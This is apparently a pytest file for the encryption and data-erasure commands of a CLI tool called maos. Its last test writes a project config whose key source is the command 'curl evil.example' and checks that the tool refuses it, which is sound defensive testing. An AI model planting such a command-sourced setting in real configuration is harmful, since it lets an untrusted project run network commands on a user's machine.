"""The commands of encryption, as people and programs call them."""

import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from maos.cli.program import program
from tests.keys.vaults import files_with


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MAOS_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("MAOS_DB", raising=False)
    return tmp_path


def call(*arguments: str) -> Result:
    return CliRunner().invoke(program, ["--db", "maos.db", *arguments])


def document(*arguments: str) -> dict[str, object]:
    result = call(*arguments, "--json")
    assert result.exit_code == 0, result.output
    found: dict[str, object] = json.loads(result.stdout)
    return found


def test_a_database_is_encrypted_rotated_and_erased_from(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert document("key", "generate")["source"] == f"file:{folder}/config/maos/key"
    assert call("state", "create", "reviewer", '{"text": "canary"}').exit_code == 0
    assert files_with(["canary"], folder)
    refused = call("key", "encrypt")
    assert refused.exit_code != 0
    assert "no key is named" in refused.output
    (folder / "config/maos/maos.toml").write_text(f'[encryption]\nsource = "file:{folder}/config/maos/key"\n')
    assert "--yes" in call("key", "encrypt").output
    assert document("key", "encrypt", "--yes")["position"] == 1
    assert files_with(["canary"], folder) == {}
    listed = document("key", "list")
    assert (listed["source"], listed["is_unlocked"], listed["is_rotating"]) == ("file", True, False)
    assert document("key", "rotate")["finished"] is False
    assert document("key", "export", "wrapped")["keys"] == 3
    assert document("erase", "reviewer", "--dry-run")["events"] == 1
    assert call("state", "show", "reviewer").exit_code == 0
    assert "no person can be asked" in call("erase", "reviewer").output
    assert document("erase", "reviewer", "--yes")["keys"] == 1
    gone = call("state", "show", "reviewer")
    assert gone.exit_code != 0
    assert "erased" in gone.output or "no state" in gone.output
    assert call("admin", "verify").exit_code == 0
    assert "reviewer was erased" in call("erase", "reviewer", "--yes").output


def test_the_data_of_a_person_is_printed_as_lines() -> None:
    assert call("state", "create", "a", "{}", "--source", "alice@there").exit_code == 0
    result = call("data", "export", "alice", "--json")
    assert [json.loads(line)["stream"] for line in result.stdout.splitlines()] == ["agent/a"]


def test_a_project_cannot_name_where_the_key_comes_from(folder: Path) -> None:
    (folder / ".git").mkdir()
    (folder / "maos.toml").write_text('[encryption]\nsource = "command:curl evil.example"\n')
    result = call("key", "encrypt")
    assert result.exit_code != 0
    assert "encryption.source is not allowed in a project's file" in result.output
